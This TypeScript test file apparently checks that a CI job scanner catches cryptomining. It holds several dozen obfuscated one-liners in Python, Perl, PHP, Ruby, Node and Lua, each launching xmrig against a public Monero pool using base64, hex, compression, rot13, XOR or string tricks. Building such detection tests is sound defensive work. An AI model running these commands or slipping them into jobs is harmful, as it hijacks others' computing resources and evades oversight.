// biome-ignore-all lint/suspicious/noTemplateCurlyInString: shell texts are full of them.
/** The same in other languages, on a command line, in a file, and as a step of its own. */
import assert from 'node:assert/strict';
import { test } from 'node:test';
import { deflateRawSync, deflateSync, gzipSync } from 'node:zlib';
import { scanJob } from './test-scanner.ts';
import { testAddress } from './wallet/test-addresses.ts';

const W = testAddress('monero', 1);
const P = 'pool.supportxmr.com:443';
const GO = `-o ${P} -u ${W}`;
const MINE = `./xmrig ${GO} -p x`;

const b64 = (data: string | Uint8Array): string => Buffer.from(data).toString('base64');
const hex = (text: string): string => Buffer.from(text).toString('hex');
const reversed = (text: string): string => [...text].reverse().join('');
const codes = (text: string): string => [...text].map((c) => c.charCodeAt(0)).join(',');
const numbers = (text: string, make: (code: number) => number): string =>
  [...text].map((c) => make(c.charCodeAt(0))).join(',');
const plusOne = (text: string): string => numbers(text, (code) => code + 1);
const xor7 = (text: string): string => numbers(text, (code) => code ^ 7);
const percent = (text: string): string =>
  [...text].map((c) => `%${c.charCodeAt(0).toString(16)}`).join('');
const rot13 = (text: string): string =>
  text.replace(/[a-zA-Z]/g, (c) => {
    const base = c <= 'Z' ? 65 : 97;
    return String.fromCharCode(((c.charCodeAt(0) - base + 13) % 26) + base);
  });
const B = b64(MINE);
const H = hex(MINE);
/** A program on the command line of its interpreter. */
const py = (code: string): string => `python3 -c "${code}"`;
const heredoc = (code: string, command: string): string =>
  `python3 - <<'E'\nimport os\n${code}\nos.system(${command})\nE`;
const js = (code: string): string => `node -e "${code}"`;
const exec = (text: string): string => js(`require('child_process').exec(${text})`);
const ZLIB = b64(deflateSync(MINE));
const GZIP = b64(gzipSync(MINE));
const CALL = `import os\nos.system("${MINE}")`;

const CASES: readonly (readonly [technique: string, script: string])[] = [
  ['b64 decode py', `python3 -c "import base64,os;os.system(base64.b64decode('${B}').decode())"`],
  [
    'b64 decode py print',
    `python3 -c "import base64;print(base64.b64decode('${B}').decode())" | sh`,
  ],
  ['b64 py exec', py(`exec(__import__('base64').b64decode('${b64(CALL)}'))`)],
  ['py hex', `python3 -c "import os;os.system(bytes.fromhex('${H}').decode())"`],
  ['py binascii', `python3 -c "import os,binascii;os.system(binascii.unhexlify('${H}').decode())"`],
  [
    'py zlib',
    py(`import os,zlib,base64 as b;os.system(zlib.decompress(b.b64decode('${ZLIB}')).decode())`),
  ],
  [
    'py gzip',
    py(`import os,gzip,base64 as b;os.system(gzip.decompress(b.b64decode('${GZIP}')).decode())`),
  ],
  ['py concat', py(`import os;os.system('./xm'+'rig -o pool.support'+'xmr.com:443 -u ${W}')`)],
  ['py join', py(`import os;os.system(' '.join(['./xmrig','-o','${P}','-u','${W}']))`)],
  ['py chr', `python3 -c "import os;os.system(''.join(map(chr,[${codes(MINE)}])))"`],
  ['py rev', `python3 -c "import os;os.system('${reversed(MINE)}'[::-1])"`],
  ['py var', py(`import os;c='./xmrig -o ${P}';w='${W}';os.system(c+' -u '+w)`)],
  ['py fstring', py(`import os;w='${W}';os.system(f'./xmrig -o ${P} -u {w}')`)],
  ['py format', py(`import os;os.system('./xmrig -o {} -u {}'.format('${P}','${W}'))`)],
  ['py percent', py(`import os;os.system('./xmrig -o %s -u %s' % ('${P}','${W}'))`)],
  ['py list', py(`import subprocess;subprocess.Popen(['./xmrig','-o','${P}','-u','${W}'])`)],
  ['py rot13', `python3 -c "import os,codecs;os.system(codecs.decode('${rot13(MINE)}','rot13'))"`],
  ['py getattr', `python3 -c "import os;getattr(os,'sys'+'tem')('${MINE}')"`],
  ['py __import__', `python3 -c "__import__('os').system('${MINE}')"`],
  ['perl mime', `perl -MMIME::Base64 -e 'system(decode_base64("${B}"))'`],
  ['perl print', `perl -MMIME::Base64 -e 'print decode_base64("${B}")' | sh`],
  ['perl pack', `perl -e 'system(pack("H*","${H}"))'`],
  ['perl exec backtick', `perl -e '\`${MINE}\`'`],
  ['perl qx', `perl -e 'qx{${MINE}}'`],
  ['php', `php -r 'system(base64_decode("${B}"));'`],
  ['php print', `php -r 'echo base64_decode("${B}");' | sh`],
  ['php hex2bin', `php -r 'shell_exec(hex2bin("${H}"));'`],
  ['php gz', `php -r 'system(gzinflate(base64_decode("${b64(deflateRawSync(MINE))}")));'`],
  ['php strrev', `php -r 'system(strrev("${reversed(MINE)}"));'`],
  ['php rot13', `php -r 'system(str_rot13("${rot13(MINE)}"));'`],
  ['php backtick', `php -r '\`${MINE}\`;'`],
  ['ruby', `ruby -e 'system("${B}".unpack1("m"))'`],
  ['ruby base64', `ruby -rbase64 -e 'puts Base64.decode64("${B}")' | sh`],
  ['ruby backtick', `ruby -e '\`${MINE}\`'`],
  ['ruby %x', `ruby -e '%x(${MINE})'`],
  ['node', `node -e "require('child_process').execSync(Buffer.from('${B}','base64').toString())"`],
  ['node print', `node -p "Buffer.from('${B}','base64').toString()" | sh`],
  ['node concat', `node -e "require('child_process').exec('./xm'+'rig ${GO}')"`],
  ['node join', exec(`['./xmrig','-o','${P}','-u','${W}'].join(' ')`)],
  ['node spawn', js(`require('child_process').spawn('./xmrig',['-o','${P}','-u','${W}'])`)],
  ['node fromCharCode', exec(`String.fromCharCode(${codes(MINE)})`)],
  ['node rev', exec(`'${reversed(MINE)}'.split('').reverse().join('')`)],
  [
    'node tmpl',
    js(`const w='${W}';require('child_process').exec(\\\`./xmrig -o ${P} -u \\\${w}\\\`)`),
  ],
  [
    'node array rot',
    js(`a=['${W}','./xmrig',' -o ${P} -u '];require('child_process').exec(a[1]+a[2]+a[0])`),
  ],
  [
    'py chr of sums',
    `python3 -c "import os;os.system(''.join(chr(c-1) for c in [${plusOne(MINE)}]))"`,
  ],
  [
    'py bytes of xor',
    `python3 -c "import os;os.system(bytes(c^7 for c in [${xor7(MINE)}]).decode())"`,
  ],
  ['py loop', heredoc(`s=''\nfor c in [${codes(MINE)}]:\n    s+=chr(c)`, 's')],
  [
    'py loop over places',
    heredoc(
      `a=[${codes(MINE)}]\ns=[]\nfor i in range(len(a)):\n    s.append(chr(a[i]))`,
      "''.join(s)",
    ),
  ],
  [
    'py input',
    `echo ${B} | ${py('import sys,base64 as b;print(b.b64decode(sys.stdin.read()).decode())')} | sh`,
  ],
  ['py input line', `echo '${reversed(MINE)}' | python3 -c "print(input()[::-1])" | sh`],
  ['perl reverse', `perl -e 'exec scalar reverse "${reversed(MINE)}"'`],
  ['perl map', `perl -e 'system(join "", map { chr($_-1) } (${plusOne(MINE)}))'`],
  ['perl loop', `perl -e 'foreach(${codes(MINE)}){$s.=chr} system($s)'`],
  ['perl q', `perl -e 'eval reverse q{${reversed(MINE)}}'`],
  ['perl lines', `echo '${reversed(MINE)}' | perl -ne 'chomp; system(scalar reverse $_)'`],
  ['perl lines printed', `echo ${B} | perl -MMIME::Base64 -ne 'print decode_base64($_)' | sh`],
  ['perl edit', `echo '${MINE.replace('xmrig', 'abc')}' | perl -pe 's/abc/xmrig/' | sh`],
  ['py function', heredoc(`def f(s):\n    return s[::-1]`, `f('${reversed(MINE)}')`)],
  ['py lambda', heredoc('f=lambda s: s[::-1]', `f('${reversed(MINE)}')`)],
  ['py map', heredoc(`d={'a': '${reversed(MINE)}'}`, "d['a'][::-1]")],
  ['py map get', heredoc(`d={'a': '${reversed(MINE)}'}`, "d.get('a')[::-1]")],
  ['py numbers', heredoc(`x='${codes(MINE)}'`, "''.join(chr(int(i)) for i in x.split(','))")],
  ['py pairs', heredoc(`x='${H}'`, "''.join(chr(int(x[i:i+2],16)) for i in range(0,len(x),2))")],
  [
    'py backwards',
    heredoc(`x='${reversed(MINE)}'`, "''.join(x[i] for i in range(len(x)-1,-1,-1))"),
  ],
  ['py eval', heredoc('', `eval("'${reversed(MINE)}'[::-1]")`)],
  ['py shlex', heredoc('import shlex', `shlex.split('${reversed(MINE)}'[::-1])`)],
  [
    'py with',
    heredoc(`with open('a','w') as f:\n    f.write('${reversed(MINE)}'[::-1])`, "'sh a'"),
  ],
  [
    'node pairs',
    js(
      `let s='';const x='${H}';for(let i=0;i<x.length;i+=2)` +
        "s+=String.fromCharCode(parseInt(x.substr(i,2),16));require('child_process').exec(s)",
    ),
  ],
  [
    'node arrow',
    js(
      "const f=s=>s.split('').reverse().join('');" +
        `require('child_process').exec(f('${reversed(MINE)}'))`,
    ),
  ],
  ['perl sub', `perl -e 'sub f { return scalar reverse $_[0] } system(f("${reversed(MINE)}"))'`],
  ['php function', `php -r 'function f($s){return strrev($s);} system(f("${reversed(MINE)}"));'`],
  ['perl repeat', `perl -e 'printf("%s"x3, "./xm", "rig ${GO}", " -p x")' | sh`],
  ['perl chomp', `printf '%s\\n' './xm' 'rig ${GO}' | perl -pe chomp | sh`],
  ['perl split', `perl -e 'print reverse split //, "${reversed(MINE)}"' | sh`],
  ['php loop', `php -r 'foreach([${codes(MINE)}] as $c) $s.=chr($c); system($s);'`],
  ['ruby map', `ruby -e 'system([${plusOne(MINE)}].map { |c| (c-1).chr }.join)'`],
  ['ruby map of a name', `ruby -e 'system([${codes(MINE)}].map(&:chr).join)'`],
  ['ruby each', `ruby -e 's="";[${codes(MINE)}].each { |c| s << c.chr };system(s)'`],
  ['node spread', exec(`[...'${reversed(MINE)}'].reverse().join('')`)],
  ['node map', exec(`String.fromCharCode(...[${plusOne(MINE)}].map(x=>x-1))`)],
  ['node percent', exec(`decodeURIComponent('${percent(MINE)}')`)],
  [
    'node loop',
    js(
      `let s='';for(const c of [${codes(MINE)}]) s+=String.fromCharCode(c);` +
        "require('child_process').exec(s)",
    ),
  ],
  [
    'node counted loop',
    js(
      `const a=[${codes(MINE)}];let s='';for(let i=0;i<a.length;i++){s+=String.fromCharCode(a[i])};require('child_process').exec(s)`,
    ),
  ],
  ['lua char', `lua -e 'os.execute(string.char(${codes(MINE)}))'`],
  ['lua reverse', `lua -e 'os.execute(("${reversed(MINE)}"):reverse())'`],
  ['lua', `lua -e 'os.execute("${MINE}")'`],
  ['python heredoc', `python3 <<E\nimport os\nos.system("${MINE}")\nE`],
  [
    'cat py run',
    `cat > t.py <<E\nimport subprocess\nsubprocess.call("${MINE}", shell=True)\nE\npython3 t.py`,
  ],
];

for (const [technique, script] of CASES) {
  test(`seen through: ${technique}`, () => {
    const report = scanJob({ scripts: [script] });
    assert.equal(report.verdict, 'confirmed', `${script}\n${JSON.stringify(report, null, 1)}`);
  });
}

const STEPS: readonly (readonly [technique: string, code: string])[] = [
  ['py script', `import os, base64\ncmd = base64.b64decode("${B}").decode()\nos.system(cmd)`],
  [
    'py script parts',
    `import subprocess as s\nP = "${P}"\nW = "${W}"\na = ["./x", "-o", P,\n  "-u", W]\ns.run(a)`,
  ],
  ['py write', `open('run.sh','w').write('${MINE}')\nimport os\nos.system('sh run.sh')`],
];

for (const [technique, code] of STEPS) {
  test(`seen through: ${technique}`, () => {
    const report = scanJob({ scripts: [code], shell: 'python' });
    assert.equal(report.verdict, 'confirmed', `${code}\n${JSON.stringify(report, null, 1)}`);
  });
}

test('functions, loops and maps inside one another take a bounded time', () => {
  const started = performance.now();
  for (const code of [
    `${'def f(a): '.repeat(20_000)}os.system(f(chr(1)))`,
    `${'for a in [1, 2]: '.repeat(20_000)}os.system(chr(a))`,
    'def f():\n    f()\n    f()\n    return f()\nos.system(f() + chr(1))',
    `x=${'[1,2].map(a=>'.repeat(40)}a${')'.repeat(40)};exec(String.fromCharCode(x))`,
    `s=[chr(1)]\nfor i in range(10000):\n    s.append(s)\nos.system("".join(s))`,
  ]) {
    scanJob({ scripts: [`python3 - <<'E'\n${code}\nE`] });
  }
  assert.ok(performance.now() - started < 5_000);
});
